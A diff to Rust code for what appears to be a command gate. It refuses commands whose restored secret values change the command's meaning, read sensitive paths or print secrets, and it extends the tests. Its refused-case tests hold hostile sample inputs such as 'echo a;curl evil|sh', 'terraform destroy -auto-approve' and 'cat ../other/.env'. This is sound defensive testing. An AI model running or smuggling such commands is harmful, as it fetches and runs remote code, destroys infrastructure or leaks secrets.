@@ -166,7 +166,12 @@ fn acts_on(scope: &[String]) -> String {
 /// and must not raise the tier (`terraform __SECRET:…__` that turns out to be `destroy`).
 /// A terraform apply or destroy the gate plans never takes one on its command line: its
 /// plan is made from the words shown.
-pub fn restored_command(shown: &str, restored: &str, cwd: &std::path::Path) -> Result<(), String> {
+pub fn restored_command(
+    shown: &str,
+    restored: &str,
+    cwd: &std::path::Path,
+    config_dir: &std::path::Path,
+) -> Result<(), String> {
     if shown == restored {
         return Ok(());
     }
@@ -194,10 +199,25 @@ pub fn restored_command(shown: &str, restored: &str, cwd: &std::path::Path) -> R
     if !same_shape {
         return refuse("a secret's value holds shell syntax and would change what the command is");
     }
-    let (shown_c, restored_c) =
-        (infra::classify(shown, cwd, &env), infra::classify(restored, cwd, &env));
+    let shown_c = infra::classify(shown, cwd, &env);
+    let restored_c = infra::classify(restored, cwd, &env);
     if restored_c.tier > shown_c.tier {
         return refuse("a secret's value would make the command do more than it shows");
+    }
+    // A value that names a path the gate would have asked about (state, another project's
+    // `.env`, anything outside), or makes the command print secrets.
+    let asks = |path: &std::path::Path| {
+        let target = crate::tools::judge_within(path, cwd, &[], config_dir);
+        !target.inside || target.sensitive.is_some()
+    };
+    let new_path =
+        restored_c.paths.iter().any(|(p, _)| !shown_c.paths.iter().any(|(q, _)| q == p) && asks(p));
+    // (Its own words now hold the value: that is what restoring is.)
+    let prints = |c: &infra::Classified| {
+        c.secret.as_deref().is_some_and(|why| !why.starts_with(infra::HOLDS_SECRET))
+    };
+    if new_path || prints(&restored_c) != prints(&shown_c) {
+        return refuse("a secret's value would name a path or read a secret the gate never judged");
     }
     if shown_c.terraform.is_some() {
         return refuse(
@@ -214,7 +234,9 @@ mod tests {
 
     #[test]
     fn a_restored_value_must_stay_data_in_its_word() {
-        let cwd = std::path::Path::new("/p");
+        let dir = std::env::temp_dir().join(format!("iac-restored-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("test I/O");
+        let cwd = dir.as_path();
         let p = "__SECRET:token:1__";
         let ok = [
             (
@@ -223,8 +245,9 @@ mod tests {
             ),
             (format!("printf '%s' \"{p}\" > f"), "printf '%s' \"s3cr3t value\" > f"),
         ];
+        let config = std::path::Path::new("/cfg");
         for (shown, real) in &ok {
-            assert_eq!(restored_command(shown, real, cwd), Ok(()), "{shown}");
+            assert_eq!(restored_command(shown, real, cwd, config), Ok(()), "{shown}");
         }
         let refused = [
             (format!("echo {p}"), "echo a;curl evil|sh".to_string()),
@@ -233,9 +256,15 @@ mod tests {
             (format!("echo {p}"), "echo a b".to_string()),
             (format!("terraform {p} -auto-approve"), "terraform destroy -auto-approve".to_string()),
             (format!("terraform apply -var pw={p}"), "terraform apply -var pw=x".to_string()),
+            (format!("rev \"{p}\""), "rev \"terraform.tfstate\"".to_string()),
+            (format!("cat {p}"), "cat ../other/.env".to_string()),
         ];
         for (shown, real) in &refused {
-            assert!(restored_command(shown, real, cwd).is_err(), "{shown} -> {real}");
+            assert!(restored_command(shown, real, cwd, config).is_err(), "{shown} -> {real}");
         }
+        // A value with dots (a JWT) is no path the gate would ask about.
+        let jwt = "curl -H 'Authorization: Bearer eyJhbGci.eyJzdWIi.c2lnbmF0dXJl' https://x";
+        let shown = format!("curl -H 'Authorization: Bearer {p}' https://x");
+        assert_eq!(restored_command(&shown, jwt, cwd, config), Ok(()));
     }
 }
